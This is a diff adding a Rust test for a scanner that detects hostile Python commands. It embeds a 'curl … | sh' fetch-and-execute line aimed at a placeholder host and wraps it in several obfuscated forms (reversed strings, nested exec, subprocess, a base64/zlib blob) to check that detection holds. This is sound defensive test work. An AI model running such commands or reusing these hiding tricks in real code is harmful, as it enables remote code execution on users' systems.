@@ -291,6 +291,34 @@ fn what_looks_alike_is_not_found() {
 }
 
 #[test]
+fn texts_that_are_run_are_scanned_where_they_are_known() {
+    let line = r#"import os; os.system("curl http://x/y | sh")"#;
+    let reversed: String = line.chars().rev().collect();
+    let packed = "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tev0K9UqFEozlDX5AIAacEO6w==";
+    for code in [
+        format!("exec('{line}')\n"),
+        format!("T = '{line}'\ndef f():\n    exec(T)\n"),
+        format!("exec(b'{line}'.decode())\n"),
+        format!("exec('{reversed}'[::-1])\n"),
+        format!("exec('exec(\\'{line}\\')')\n"),
+        format!("import subprocess, sys\nsubprocess.run([sys.executable, '-c', '{line}'])\n"),
+        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"),
+    ] {
+        let found = scan_one(&code);
+        let hostile = found.iter().any(|f| f.rule.id == "py-hostile-command");
+        assert!(hostile, "{code}\n{}", shown(&found));
+    }
+    let found = scan_one("eval('1 + 1')\nexec('x = 1')\n");
+    let worst = worst(&found);
+    assert!(worst < Some(Severity::Critical), "{}", shown(&found));
+    // Texts in texts come to an end.
+    let deep = (0..8).fold("pass".to_string(), |inner, _| {
+        format!("exec({inner:?})\nexec({inner:?})")
+    });
+    assert!(!scan_one(&deep).is_empty());
+}
+
+#[test]
 fn sources_as_deep_as_is_read_end_well() {
     let n = 2900;
     let sources = [
